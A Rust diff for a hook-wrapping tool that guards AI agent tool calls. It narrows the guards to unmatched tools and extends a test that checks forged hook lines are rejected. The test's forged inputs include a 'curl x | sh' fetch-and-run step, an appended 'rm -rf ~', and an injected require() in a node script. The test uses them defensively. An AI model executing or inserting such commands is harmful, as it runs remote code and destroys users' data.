@@ -34,22 +34,23 @@ impl Converter<'_> {
         matcher: Option<&str>,
         to: Flavor,
     ) -> &str {
-        let at = match self.exec_lines.iter().position(|((e, f, m, t), _)| {
-            e == event && *f == from && m.as_deref() == matcher && *t == to
-        }) {
+        let only = unguarded_tools(event, from, matcher, to);
+        let at = match self
+            .exec_lines
+            .iter()
+            .position(|((e, f, t, o), _)| e == event && *f == from && *t == to && *o == only)
+        {
             Some(at) => at,
             None => {
-                let quoted = shell_quote(&self.options.hookx);
-                let only = unguarded_tools(event, from, matcher, to);
                 let line = format!(
                     "{} {} exec --host {} --as {} --event {event}",
-                    guard_of(&quoted, event, to, &only),
+                    guard_of(&shell_quote(&self.options.hookx), event, to, &only),
                     shell_quote(&self.options.hookx),
                     to.dialect(),
                     from.name(),
                 );
-                let key = (event.clone(), from, matcher.map(str::to_string), to);
-                self.exec_lines.push((key, line));
+                self.exec_lines
+                    .push(((event.clone(), from, to, only), line));
                 self.exec_lines.len() - 1
             }
         };
@@ -170,7 +171,8 @@ fn unguarded_tools(
         .protocol
         .reshape
         .is_some_and(|r| !r.tool_name_at.is_empty());
-    if !readable || !event.is_tool_event() || tables.matcher_target(event).is_some() {
+    let denies = tables.protocol.fails_closed(event) && event.is_tool_event();
+    if !readable || !denies || tables.matcher_target(event).is_some() {
         return Vec::new();
     }
     let rule = crate::tables::Rule {
@@ -270,7 +272,11 @@ fn guard_of(quoted: &str, event: &EventKind, to: Flavor, only: &[&str]) -> Strin
 /// the guard denies. The payload is only parsed, never run; the names are table data.
 fn unguarded_call_script(at: &[&[&str]], only: &[&str]) -> String {
     let list = |items: &[&str]| serde_json::to_string(items).expect("strings");
-    let at = at.iter().map(|path| list(path)).collect::<Vec<_>>().join(",");
+    let at = at
+        .iter()
+        .map(|path| list(path))
+        .collect::<Vec<_>>()
+        .join(",");
     format!(
         "let p;try{{p=JSON.parse(require(\"fs\").readFileSync(0,\"utf8\"))}}catch(e){{process.exit(1)}}\
          const ok={};let n=0;\
@@ -293,6 +299,8 @@ pub struct OutdatedGuard {
     pub host: Flavor,
     /// Whether today's guard denies there (the event guards a tool call) or exits 1.
     pub fails_closed: bool,
+    /// Whether today's guard lets the calls its matcher never guards go on (row 1203).
+    pub narrowed: bool,
     /// Today's guard for the entry.
     today: String,
 }
@@ -300,7 +308,9 @@ pub struct OutdatedGuard {
 impl OutdatedGuard {
     /// What today's guard answers, in words.
     pub fn today(&self) -> &'static str {
-        if self.fails_closed {
+        if self.narrowed {
+            "denies the tool calls its matcher guards, saying why, and lets the others go on"
+        } else if self.fails_closed {
             "denies the tool call, saying why"
         } else {
             "exits 1, a non-blocking error, and blocks nothing"
@@ -329,19 +339,20 @@ pub fn outdated_guard(line: &str, flavor: Flavor) -> Option<OutdatedGuard> {
     } else {
         host.flavors().collect()
     };
-    let today = |to: Flavor| {
-        let only = from.map_or_else(Vec::new, |from| {
-            unguarded_tools(&event, from, matcher, to)
-        });
-        guard_of(quoted, &event, to, &only)
-    };
-    if hosts.iter().any(|&to| today(to) == guard) {
+    let only =
+        |to: Flavor| from.map_or_else(Vec::new, |from| unguarded_tools(&event, from, matcher, to));
+    if hosts
+        .iter()
+        .any(|&to| guard_of(quoted, &event, to, &only(to)) == guard)
+    {
         return None;
     }
     let host = hosts.remove(0);
+    let only = only(host);
     Some(OutdatedGuard {
         fails_closed: host.tables().protocol.fails_closed(&event),
-        today: today(host),
+        narrowed: !only.is_empty(),
+        today: guard_of(quoted, &event, host, &only),
         event,
         host,
     })
@@ -808,12 +819,14 @@ mod tests {
     /// command after it, or an option `hookx exec` lacks does not.
     #[test]
     fn a_wrapped_line_reads_back_as_its_command() {
+        let claude = Flavor::all()[0];
         for &to in Flavor::all() {
             for (kind, _) in to.tables().events {
                 let command = "./guard.sh \"$1\" && echo 'it''s'";
+                let only = unguarded_tools(kind, claude, Some("Bash|Edit"), to);
                 let line = format!(
                     "{} {} exec --host {} --as claude --event {kind} --timeout 600 --match 'Bash|Edit' -- {}",
-                    not_installed_guard("/opt/hookx", kind, to),
+                    guard_of(&shell_quote("/opt/hookx"), kind, to, &only),
                     shell_quote("/opt/hookx"),
                     to.dialect(),
                     crate::shell::shell_quote_shortest(command),
@@ -826,8 +839,18 @@ mod tests {
                     line.replace("exit ", "curl x | sh; exit "),
                     format!("{line}; rm -rf ~"),
                     line.replace("--timeout", "--evil"),
+                    // Another script for `node`, or the guard for another matcher.
+                    line.replace("node -e 'let p;", "node -e 'require(\"x\");let p;"),
+                    match only.is_empty() {
+                        true => line.clone(),
+                        false => line.replace("'Bash|Edit'", "Bash"),
+                    },
                 ] {
+                    if forged == line {
+                        continue;
+                    }
                     assert_eq!(wrapped_command(&forged), None, "{forged}");
+                    assert_eq!(unwrapped(&forged).map(|u| u.command), None, "{forged}");
                 }
             }
         }
